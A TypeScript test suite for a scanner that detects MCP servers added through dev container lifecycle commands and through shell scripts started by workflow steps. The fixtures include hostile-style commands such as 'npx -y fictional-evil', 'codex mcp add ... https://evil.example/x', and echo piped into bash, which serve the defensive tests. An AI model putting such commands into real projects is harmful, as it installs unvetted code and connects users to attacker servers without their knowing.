/*
 * Commands outside of workflows: what dev containers run while they are made, and the shell scripts that
 * they and the steps of workflows start.
 */
import { type Case, type Files, playCases } from './cases.ts';

const evil = 'fictional-evil';
const add = `claude mcp add x -- npx -y ${evil}`;
const fetched = 'added: unlisted, unpinned';
const connected = 'added: unlisted';

const container = (more: object): Files => ({
  '.devcontainer/devcontainer.json': { json: { image: 'node', ...more } },
});
const step = (run: string, more = ''): Files => ({
  '.github/workflows/x.yml': `on: push\njobs:\n  a:\n    steps:\n      - run: |\n          ${run.replaceAll('\n', '\n          ')}\n${more}`,
});
const brings = (name: string, head: Files, expected: Case['expected'], base: Files = {}): Case => ({
  name,
  base,
  head,
  expected,
});

const moments: readonly Case[] = [
  brings(
    'postCreateCommand, a text',
    container({ postCreateCommand: `npm ci && ${add}` }),
    fetched,
  ),
  brings(
    'postStartCommand, words',
    container({ postStartCommand: ['claude', 'mcp', 'add', 'x', '--', 'npx', '-y', evil] }),
    fetched,
  ),
  brings(
    'onCreateCommand, words of a shell',
    container({ onCreateCommand: ['bash', '-c', add] }),
    fetched,
  ),
  brings(
    'postAttachCommand, by name',
    container({ postAttachCommand: { a: 'npm ci', b: ['sh', '-c', add] } }),
    fetched,
  ),
  brings(
    'updateContentCommand with an address',
    container({
      updateContentCommand: 'codex mcp add x --url https://evil.example/x',
    }),
    connected,
  ),
  brings(
    'initializeCommand with JSON',
    container({
      initializeCommand: `claude mcp add-json x '${JSON.stringify({ command: 'npx', args: ['-y', evil] })}'`,
    }),
    fetched,
  ),
  brings(
    'postCreateCommand that writes a client’s file',
    container({
      postCreateCommand: `echo '{"mcpServers":{"x":{"command":"npx","args":["-y","${evil}"]}}}' > .mcp.json`,
    }),
    fetched,
  ),
  brings('postCreateCommand of every day', container({ postCreateCommand: 'npm ci' }), 'nothing'),
];

/** Each names `scripts/x.sh`, which adds a server. */
const ways: readonly (readonly [string, Files])[] = [
  ...[
    'bash scripts/x.sh',
    './scripts/x.sh --yes',
    'sh -eu ./scripts/x.sh',
    'source scripts/x.sh',
    '. ./scripts/x.sh',
    'cd scripts && ./x.sh',
    'sudo bash "$GITHUB_WORKSPACE/scripts/x.sh"',
    'bash ${{ github.workspace }}/scripts/x.sh',
    'if true; then scripts/x.sh; fi',
    'bash other.sh',
  ].map((run) => [`step: ${run}`, step(run)] as const),
  ['step in a folder', step('./x.sh', '        working-directory: scripts\n')],
  ['dev container', container({ postCreateCommand: 'bash scripts/x.sh' })],
  ['dev container, words', container({ postStartCommand: ['bash', './scripts/x.sh'] })],
];

const script = (text: string): Files => ({
  'scripts/x.sh': `#!/usr/bin/env bash\nset -e\n${text}\n`,
  'other.sh': 'bash scripts/x.sh\n',
});

const followed: readonly Case[] = [
  ...ways.map(([name, files]) => brings(name, { ...files, ...script(add) }, fetched)),
  ...ways.map(([name, files]) =>
    brings(`${name}: its script gets a server`, script(add), fetched, {
      ...files,
      ...script('npm ci'),
    }),
  ),
  ...[
    [`claude mcp add x npx -- -y ${evil}`, fetched],
    [`goose run --with-extension 'npx -y ${evil}'`, fetched],
    [`npx @modelcontextprotocol/inspector npx -y ${evil}`, fetched],
    ['npx -y mcp-remote https://evil.example/mcp', /unlisted/],
    [
      `cat > .mcp.json <<EOF\n{"mcpServers":{"x":{"command":"npx","args":["-y","${evil}"]}}}\nEOF`,
      fetched,
    ],
    [`echo '${add}' | bash`, fetched],
    ['npx @modelcontextprotocol/inspector node build/index.js', 'nothing'],
    ['npx -y supergateway --stdio "node ./build/index.js"', 'nothing'],
    [`echo "now: ${add}"`, 'nothing'],
    [`# ${add}`, 'nothing'],
    ['npm ci\nnpm run build\nhelm plugin install https://example.com/x', 'nothing'],
  ].map(([text, expected]) =>
    brings(`script: ${text}`, script(text as string), expected as string, {
      ...step('bash scripts/x.sh'),
      ...script('npm ci'),
    }),
  ),
  brings('a script that nothing starts', script(add), 'nothing', script('npm ci')),
  brings(
    'a program that is no script',
    { ...step('./scripts/x.py'), 'scripts/x.py': add },
    'nothing',
  ),
];

playCases([...moments, ...followed]);
